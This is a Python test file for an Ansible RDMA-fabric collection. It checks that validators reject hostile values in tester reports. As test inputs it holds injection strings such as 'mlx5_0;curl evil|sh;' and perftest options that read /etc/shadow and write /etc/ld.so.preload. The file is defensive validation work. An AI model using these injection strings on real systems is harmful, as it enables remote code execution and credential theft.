"""What testers report about themselves: valid values pass, everything else keeps a rail from use."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from ansible_collections.gpufabric.rdma.plugins.module_utils._fabric.intent.typed import plain
from ansible_collections.gpufabric.rdma.plugins.module_utils._fabric.measure.readings.described import (
    checked_host,
    checked_rail,
)
from ansible_collections.gpufabric.rdma.plugins.module_utils._fabric.measure.readings.tester_log import parse_describe

RAIL = {
    "device": "mlx5_0",
    "port": "1",
    "netdev": "rail0",
    "gid": "3",
    "gid_type": "RoCE v2",
    "address": "10.0.0.1",
    "mtu": "4096",
    "rate": "400 Gb/sec (4X NDR)",
    "numa": "-1",
    "cpus": "0-15,32",
    "local_cpus": "-",
}
GID = "is invalid; expected a number from 0 to 64, since perftest refuses larger GID indexes"
OPTIONS = "10.0.0.3 18500 write_bw --payload_file_path=/etc/shadow --out_json_file=/etc/ld.so.preload"


def test_what_a_tester_prints_is_valid() -> None:
    assert checked_rail(RAIL) == RAIL
    assert checked_rail({**RAIL, "more": "x"}) == RAIL
    host = {"memlock": "unlimited", "perftest": "6.24", "control": "-", "clock": "tsc", "machine_id": "0" * 32}
    assert checked_host(host) == host


@pytest.mark.parametrize(
    ("key", "value", "reason"),
    [
        ("address", OPTIONS, f"address={OPTIONS[:60]!r} is invalid; expected an IPv4 address"),
        ("address", "10.0.0.1\n", "address='10.0.0.1' is invalid; expected an IPv4 address"),
        ("address", "-", "address='-' is invalid; expected an IPv4 address"),
        ("address", "host.test", "address='host.test' is invalid; expected an IPv4 address"),
        (
            "device",
            "mlx5_0;curl evil|sh;",
            "device='mlx5_0;curl evil|sh;' is invalid; expected the name of an RDMA device",
        ),
        ("device", "-d", "device='-d' is invalid; expected the name of an RDMA device"),
        ("device", "a" * 65, f"device={'a' * 60!r} is invalid; expected the name of an RDMA device"),
        ("port", "1 -R", "port='1 -R' is invalid; expected a number from 1 to 255"),
        ("gid", "65", f"gid='65' {GID}"),
        ("gid", "\u0663", f"gid='\u0663' {GID}"),
        ("cpus", "0-3 sh", "cpus='0-3 sh' is invalid; expected a list of CPUs"),
        ("cpus", "0," * 5000, f"cpus={'0,' * 30!r} is invalid; expected a list of CPUs"),
        ("mtu", "9" * 5000, f"mtu={'9' * 60!r} is invalid; expected a number from 1 to 65536"),
        ("rate", "\x1b[31m", "rate='?[31m' is invalid; expected a rate"),
    ],
)
def test_an_invalid_value_keeps_the_rail_from_use(key: str, value: str, reason: str) -> None:
    assert checked_rail({**RAIL, key: value}) == {"error": f"not described: {reason}"}


@pytest.mark.parametrize("key", ["device", "port", "gid", "address"])
def test_a_value_that_is_missing_keeps_the_rail_from_use(key: str) -> None:
    left = {name: value for name, value in RAIL.items() if name != key}
    assert checked_rail(left) == {"error": f"not described: its tester did not report {key}"}


def test_an_error_of_a_tester_is_one_short_line() -> None:
    assert checked_rail({"error": "\x1b]0;no\nlink " + "x" * 9000})["error"].startswith("?]0;no link xxx")
    assert len(checked_rail({"error": "x" * 9000})["error"]) == 300
    assert checked_rail({"error": ""})["error"] == "its tester reports an error without a reason"


def test_an_invalid_value_of_a_host_counts_as_not_reported() -> None:
    host = {"control": OPTIONS, "clock": "tsc\x1b", "perftest": "6.24", "other": "x"}
    assert checked_host(host) == {"perftest": "6.24"}


def test_a_hostile_description_gives_no_peer_any_words() -> None:
    text = (
        f'=== gpufabric describe v1\nrail rail0 device=mlx5_0 port=1 gid=3 address="{OPTIONS}"\n'
        f'host control="{OPTIONS}"\n=== gpufabric described 1\n'
    )
    found = parse_describe(text)
    assert str(found.error("rail0")).startswith("not described: address=") and dict(found.host) == {}


@given(st.dictionaries(st.sampled_from(sorted(RAIL)), st.text(max_size=80)))
def test_every_value_that_passes_is_one_word_or_harmless(pairs: dict[str, str]) -> None:
    found = checked_rail({**RAIL, **pairs})
    assert all(value.isprintable() for value in found.values())
    if "error" not in found:
        words = [found[key] for key in ("device", "port", "gid", "address")]
        assert not any(" " in word or word.startswith("-") for word in words)


@given(st.text(), st.integers(1, 400))
def test_plain_text_is_one_line(text: str, most: int) -> None:
    assert plain(text, most).isprintable() and len(plain(text, most)) <= most
